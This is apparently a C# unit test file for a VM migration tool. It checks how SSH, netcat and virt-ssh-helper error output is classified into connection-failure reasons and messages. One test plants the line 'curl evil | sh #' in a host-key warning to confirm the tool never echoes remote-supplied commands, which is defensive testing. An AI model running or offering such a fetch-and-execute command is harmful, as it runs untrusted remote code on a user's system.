using VmMigration.Libvirt.Transport;

namespace VmMigration.Libvirt.Tests.Transport;

/// <summary>What OpenSSH, netcats and virt-ssh-helper really print, and what is made of it.</summary>
public class SshFailureTests
{
    private const string KeyChanged = """
        @@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
        @    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
        @@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
        IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!
        Someone could be eavesdropping on you right now (man-in-the-middle attack)!
        It is also possible that a host key has just been changed.
        The fingerprint for the ED25519 key sent by the remote host is
        SHA256:XgHfWxnzEPj1qqPnLGxwpArX1xYWuV9zjRSISW9GpGc.
        Please contact your system administrator.
        Add correct host key in /home/me/.ssh/known_hosts to get rid of this message.
        Offending ED25519 key in /home/me/.ssh/known_hosts:3
          remove with:
          ssh-keygen -f "/home/me/.ssh/known_hosts" -R "kvm1"
        Host key for kvm1 has changed and you have requested strict checking.
        Host key verification failed.
        """;

    private const string KeyTooOpen = """
        @@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
        @         WARNING: UNPROTECTED PRIVATE KEY FILE!          @
        @@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
        Permissions 0644 for '/home/me/id' are too open.
        It is required that your private key files are NOT accessible by others.
        This private key will be ignored.
        Load key "/home/me/id": bad permissions
        root@kvm1: Permission denied (publickey).
        """;

    [Theory]
    [InlineData(KeyChanged, ConnectFailure.HostKeyChanged, "known_hosts line 3")]
    [InlineData(KeyChanged, ConnectFailure.HostKeyChanged, "SHA256:XgHfWxnzEPj1qqPnLGxwpArX1xYWuV9zjRSISW9GpGc)")]
    [InlineData(KeyChanged, ConnectFailure.HostKeyChanged, "ssh-keygen -f \"/home/me/.ssh/known_hosts\" -R \"kvm1\"")]
    [InlineData("Host key verification failed.", ConnectFailure.HostKeyUnknown, "ssh kvm1")]
    [InlineData("No ED25519 host key is known for jump and you have requested strict checking.\nHost key verification failed.\nkex_exchange_identification: Connection closed by remote host\nConnection closed by UNKNOWN port 65535", ConnectFailure.HostKeyUnknown, "jump, on the way to kvm1")]
    [InlineData("ssh: Could not resolve hostname kvm1: Name or service not known", ConnectFailure.NameNotResolved, "name kvm1 has")]
    [InlineData("ssh: Could not resolve hostname kvm1: Temporary failure in name resolution", ConnectFailure.NameNotResolved, "name kvm1 has")]
    [InlineData("ssh: Could not resolve hostname jump: Name or service not known\nkex_exchange_identification: Connection closed by remote host\nConnection closed by UNKNOWN port 65535", ConnectFailure.NameNotResolved, "jump (on the way to kvm1)")]
    [InlineData("ssh: connect to host kvm1 port 22: Connection refused", ConnectFailure.Refused, "kvm1 is up and does not listen for ssh on port 22")]
    [InlineData("ssh: connect to host jump port 2222: Connection refused\nkex_exchange_identification: Connection closed by remote host\nConnection closed by UNKNOWN port 65535", ConnectFailure.Refused, "jump (on the way to kvm1)")]
    [InlineData("ssh: connect to host kvm1 port 22: No route to host", ConnectFailure.Unreachable, "port 22")]
    [InlineData("ssh: connect to host kvm1 port 22: Network is unreachable", ConnectFailure.Unreachable, "routes")]
    [InlineData("ssh: connect to host kvm1 port 22: Connection timed out", ConnectFailure.TimedOut, "firewall")]
    [InlineData("ssh: connect to host kvm1 port 22: Operation timed out", ConnectFailure.TimedOut, "firewall")]
    [InlineData("Connection timed out during banner exchange\nConnection to 10.0.0.1 port 22 timed out", ConnectFailure.TimedOut, "overloaded")]
    [InlineData("channel 0: open failed: connect failed: No route to host\nstdio forwarding failed\nkex_exchange_identification: Connection closed by remote host\nConnection closed by UNKNOWN port 65535", ConnectFailure.Unreachable, "jump host")]
    [InlineData("channel 0: open failed: connect failed: Connection refused\nstdio forwarding failed", ConnectFailure.Refused, "does not listen for ssh")]
    [InlineData("channel 0: open failed: administratively prohibited: open failed\nstdio forwarding failed", ConnectFailure.Refused, "AllowTcpForwarding")]
    [InlineData("root@kvm1: Permission denied (publickey).", ConnectFailure.PermissionDenied, "root@kvm1")]
    [InlineData("root@kvm1: Permission denied (publickey,gssapi-keyex,password).", ConnectFailure.PermissionDenied, "accepts publickey,gssapi-keyex,password")]
    [InlineData("Permission denied (publickey).", ConnectFailure.PermissionDenied, "accepts publickey")]
    [InlineData("Warning: Identity file /home/me/id not accessible: No such file or directory.\nroot@kvm1: Permission denied (publickey).", ConnectFailure.PermissionDenied, "the key /home/me/id cannot be read: No such file or directory")]
    [InlineData("Load key \"/home/me/id\": error in libcrypto\nroot@kvm1: Permission denied (publickey).", ConnectFailure.PermissionDenied, "/home/me/id: error in libcrypto")]
    [InlineData("sign_and_send_pubkey: signing failed for ED25519 \"me\" from agent: agent refused operation\nroot@kvm1: Permission denied (publickey).", ConnectFailure.PermissionDenied, "agent refused operation")]
    [InlineData(KeyTooOpen, ConnectFailure.PermissionDenied, "chmod 600")]
    [InlineData("Received disconnect from 10.0.0.1 port 22:2: Too many authentication failures\nDisconnected from 10.0.0.1 port 22", ConnectFailure.PermissionDenied, "IdentitiesOnly")]
    [InlineData("Can't open user config file /nope: No such file or directory", ConnectFailure.SshConfigInvalid, "/nope: No such file")]
    [InlineData("/home/me/.ssh/config: line 7: Bad configuration option: foobar\n/home/me/.ssh/config: terminating, 1 bad configuration options", ConnectFailure.SshConfigInvalid, "/home/me/.ssh/config line 7: Bad configuration option: foobar")]
    [InlineData("Bad owner or permissions on /home/me/.ssh/config", ConnectFailure.SshConfigInvalid, "/home/me/.ssh/config")]
    [InlineData("command-line: line 0: Bad configuration option: serveraliveinterval", ConnectFailure.SshConfigInvalid, "too old")]
    [InlineData("command-line line 0: unsupported option \"accept-new\".", ConnectFailure.SshConfigInvalid, "accept-new")]
    [InlineData("Unable to negotiate with 10.0.0.1 port 22: no matching host key type found. Their offer: ssh-rsa,ssh-dss", ConnectFailure.NoCommonAlgorithm, "Their offer: ssh-rsa")]
    [InlineData("kex_exchange_identification: Connection closed by remote host\nConnection closed by 10.0.0.1 port 22", ConnectFailure.ClosedEarly, "MaxStartups")]
    [InlineData("kex_exchange_identification: read: Connection reset by peer\nConnection reset by 10.0.0.1 port 22", ConnectFailure.ClosedEarly, "Connection reset by peer")]
    [InlineData("Connection closed by 10.0.0.1 port 22", ConnectFailure.ClosedEarly, "log")]
    [InlineData("Timeout, server kvm1 not responding.", ConnectFailure.ConnectionLost, "silent")]
    [InlineData("client_loop: send disconnect: Broken pipe", ConnectFailure.ConnectionLost, "Broken pipe")]
    [InlineData("Connection to kvm1 closed by remote host.", ConnectFailure.ConnectionLost, "closed it")]
    public void Understands_what_ssh_says(string errors, ConnectFailure reason, string part) =>
        Check(255, SshWords.Of(errors, ""), reason, part);

    [Theory]
    [InlineData(1, "virt-ssh-helper: cannot connect to '/var/run/libvirt/libvirt-sock': Failed to connect socket to '/var/run/libvirt/libvirt-sock': No such file or directory", ConnectFailure.SocketMissing, "(/var/run/libvirt/libvirt-sock)")]
    [InlineData(1, "virt-ssh-helper: cannot connect to '/run/libvirt/virtqemud-sock': Failed to connect socket to '/run/libvirt/virtqemud-sock': Permission denied", ConnectFailure.SocketPermission, "group")]
    [InlineData(1, "virt-ssh-helper: cannot connect to '/run/libvirt/virtqemud-sock': Failed to connect socket to '/run/libvirt/virtqemud-sock': Connection refused", ConnectFailure.SocketRefused, "not running")]
    [InlineData(1, "virt-ssh-helper: could not proxy traffic: cannot read from socket: Connection reset by peer", ConnectFailure.ConnectionLost, "Connection reset")]
    [InlineData(1, "nc: /var/run/libvirt/libvirt-sock: No such file or directory", ConnectFailure.SocketMissing, "(/var/run/libvirt/libvirt-sock)")]
    [InlineData(1, "nc: unix connect failed: No such file or directory", ConnectFailure.SocketMissing, "virtqemud.socket")]
    [InlineData(1, "/usr/bin/nc: /run/libvirt/libvirt-sock: Connection refused", ConnectFailure.SocketRefused, "Start")]
    [InlineData(1, "nc: unix connect failed: Permission denied", ConnectFailure.SocketPermission, "group")]
    [InlineData(1, "Ncat: No such file or directory.", ConnectFailure.SocketMissing, "daemon")]
    [InlineData(1, "nc: invalid option -- 'U'\nnc -h for help", ConnectFailure.HelperMissing, "Unix sockets")]
    [InlineData(127, "sh: 1: exec: nc: not found", ConnectFailure.HelperMissing, "nc: not found")]
    [InlineData(127, "bash: nc: command not found", ConnectFailure.HelperMissing, "nc: command not found")]
    [InlineData(127, "sh: 1: exec: virt-ssh-helper: not found", ConnectFailure.HelperMissing, "has no virt-ssh-helper")]
    [InlineData(127, "sh: line 1: exec: virt-ssh-helper: not found", ConnectFailure.HelperMissing, "has no virt-ssh-helper")]
    [InlineData(127, "vm-migration: no virt-ssh-helper and no netcat", ConnectFailure.HelperMissing, "neither")]
    [InlineData(127, "vm-migration: no netcat", ConnectFailure.HelperMissing, "leave these out")]
    public void Understands_what_the_host_says(int code, string errors, ConnectFailure reason, string part) =>
        Check(code, SshWords.Of("", errors), reason, part);

    [Fact]
    public void Takes_no_word_of_the_hosts_for_its_own()
    {
        var error = SshFailure.Explain("kvm1", 255, SshWords.Of("", KeyChanged.Replace("ssh-keygen", "curl evil | sh #")), answered: false)!;

        Assert.Equal(ConnectFailure.Other, error.Reason);
        Assert.DoesNotContain("curl", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Believes_the_ssh_to_a_jump_host_where_ours_did_not_get_to_the_host()
    {
        var error = SshFailure.Explain(
            "kvm1", 255, SshWords.Of("kex_exchange_identification: Connection closed by remote host\nConnection closed by UNKNOWN port 65535", KeyChanged), answered: false);

        Assert.Equal(ConnectFailure.HostKeyChanged, error!.Reason);
    }

    [Theory]
    [InlineData(255, "something new", false, ConnectFailure.Other, "something new")]
    [InlineData(255, "something new", true, ConnectFailure.ConnectionLost, "something new")]
    [InlineData(1, "something new\nWarning: Permanently added 'kvm1' (ED25519) to the list of known hosts.", false, ConnectFailure.ClosedEarly, "code 1: something new")]
    [InlineData(137, "", true, ConnectFailure.ConnectionLost, "signal 9")]
    [InlineData(0, "something new", false, ConnectFailure.ClosedEarly, "something new")]
    [InlineData(3, "", false, ConnectFailure.ClosedEarly, "code 3")]
    public void Repeats_the_last_words_when_it_does_not_know_them(int code, string errors, bool answered, ConnectFailure reason, string part)
    {
        LibvirtConnectException? error = SshFailure.Explain("kvm1", code, SshWords.Of("", errors), answered);

        Assert.NotNull(error);
        Assert.Equal(reason, error.Reason);
        Assert.Contains(part, error.Message);
    }

    [Theory]
    [InlineData("")]
    [InlineData("Warning: Permanently added 'kvm1' (ED25519) to the list of known hosts.")]
    public void Sees_nothing_wrong_in_a_plain_end(string errors)
    {
        Assert.Null(SshFailure.Explain("kvm1", 0, SshWords.Of(errors, ""), answered: true));
    }

    [Fact]
    public void Does_not_blame_a_key_when_another_was_good_enough()
    {
        LibvirtConnectException? error = SshFailure.Explain(
            "kvm1", 1, SshWords.Of("Load key \"/home/me/id\": bad permissions", "nc: unix connect failed: Connection refused"), answered: false);

        Assert.Equal(ConnectFailure.SocketRefused, error!.Reason);
    }

    [Fact]
    public void Tells_a_barred_account_from_a_talkative_one()
    {
        Assert.Contains("run nothing", SshFailure.Noise("kvm1", "This account is currently not available.\n").Message);
        Assert.Contains("(\"\uFFFD[1;32mHi\")", SshFailure.Noise("kvm1", "\e[1;32mHi\n").Message);
    }

    private static void Check(int code, SshWords words, ConnectFailure reason, string part)
    {
        LibvirtConnectException? error = SshFailure.Explain("kvm1", code, words, answered: false);

        Assert.NotNull(error);
        Assert.Equal((reason, "kvm1", words.All), (error.Reason, error.Host, error.Detail));
        Assert.Contains(part, error.Message);
        Assert.DoesNotContain('\n', error.Message);
    }

    [Theory]
    [InlineData("", "", "No answer from the daemon on kvm1 over ssh within 15 s; try: ssh kvm1 virsh version")]
    [InlineData(
        "Authenticated to 10.0.0.1 ([10.0.0.1]:22) using \"publickey\".\n",
        "",
        "ssh got into kvm1, and the login shell there has not come to the command it was given within 15 s: its start-up files may wait for something. ")]
    [InlineData(
        "Authenticated to 10.0.0.1 ([10.0.0.1]:22) using \"publickey\".\n",
        "waiting for lock /home/me/.profile.lock\n",
        "ssh got into kvm1, and the login shell there has not come to the command it was given within 15 s: it says: waiting for lock /home/me/.profile.lock. ")]
    public void A_login_shell_that_is_slow_is_told_from_a_host_that_does_not_answer(string own, string host, string message) =>
        Assert.StartsWith(message, SshFailure.TooLate("kvm1", TimeSpan.FromSeconds(15), new SshWords(own, host)).Message, StringComparison.Ordinal);

    [Fact]
    public void What_ssh_says_of_itself_on_the_way_is_not_taken_for_the_reason()
    {
        SshWords said = new(
            "Authenticated to kvm1 ([10.0.0.1]:22) using \"publickey\".\nTransferred: sent 2516, received 2936 bytes, in 0.1 seconds\nBytes per second: sent 1.0, received 1.0\n",
            "nc: connection refused\n");
        Assert.Contains("nc: connection refused", SshFailure.Explain("kvm1", 1, said, answered: false)!.Message, StringComparison.Ordinal);
    }
}
